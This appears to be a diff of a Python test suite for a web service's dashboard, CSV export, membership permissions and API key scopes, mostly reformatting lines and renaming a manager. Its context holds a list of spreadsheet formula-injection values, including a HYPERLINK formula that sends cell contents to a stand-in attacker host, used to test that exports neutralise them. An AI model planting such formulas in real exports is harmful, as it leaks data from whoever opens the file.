@@ -16,7 +16,8 @@ HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2
 def test_formula_cells_are_made_inert():
     for value in HOSTILE_CELLS:
         assert exports.safe_cell(value) == "'" + value
-    assert exports.safe_cell("dall-e-3") == "dall-e-3" and exports.safe_cell(-5) == -5 and exports.safe_cell(None) is None
+    assert exports.safe_cell("dall-e-3") == "dall-e-3"
+    assert exports.safe_cell(-5) == -5 and exports.safe_cell(None) is None
     line = "".join(exports.csv_lines(["a"], [[HOSTILE_CELLS[0]]]))
     assert list(csv.reader(io.StringIO(line)))[1] == ["'" + HOSTILE_CELLS[0]]
 
@@ -109,7 +110,8 @@ def _declare_huge_body(base: str, path: str) -> tuple[int, str]:
 
 # --- No 500 from input ------------------------------------------------------------------------------------------
 
-@pytest.mark.parametrize("url", ["/dashboard/requests/?date_to=9999-12-31", "/dashboard/requests/export.csv?date_to=9999-12-31",
+@pytest.mark.parametrize("url", ["/dashboard/requests/?date_to=9999-12-31",
+                                 "/dashboard/requests/export.csv?date_to=9999-12-31",
                                  "/dashboard/?to=9999-12-31", "/dashboard/?from=0001-01-01&to=9999-12-31",
                                  "/dashboard/requests/?date_from=99999-01-01", "/dashboard/?from=2024-02-30"])
 def test_far_and_impossible_dates_get_a_clear_message(client, user, organization, url):
@@ -197,7 +199,7 @@ def test_members_may_see_but_not_spend(transactional_db, client, organization, p
     from billing.models import LedgerEntry
 
     member, _ = account_services.get_or_create_user(email="member@example.com", password="member horse battery")
-    Membership.unscoped.create(organization=organization, user=member, role=Membership.Role.MEMBER)
+    Membership.all_tenants_unsafe.create(organization=organization, user=member, role=Membership.Role.MEMBER)
     client.force_login(member)
     page = client.get(reverse("playground"))
     assert page.status_code == 200 and b'data-testid="playground-read-only"' in page.content
@@ -229,7 +231,8 @@ def test_key_scopes_are_checked_on_every_path(live_url, api_key, organization):
     assert info.value.code == "missing_scope"
     records = httpx.get(f"{live_url}/v1/organization/usage/records", headers={"Authorization": f"Bearer {usage_raw}"})
     assert records.status_code == 200 and len(records.json()["data"]) == 1
-    default = httpx.get(f"{live_url}/v1/organization/costs?start_time=1", headers={"Authorization": f"Bearer {api_key[1]}"})
+    default = httpx.get(f"{live_url}/v1/organization/costs?start_time=1",
+                        headers={"Authorization": f"Bearer {api_key[1]}"})
     assert default.status_code == 200  # keys made without choosing get every scope, as OpenAI's "All"
 
 
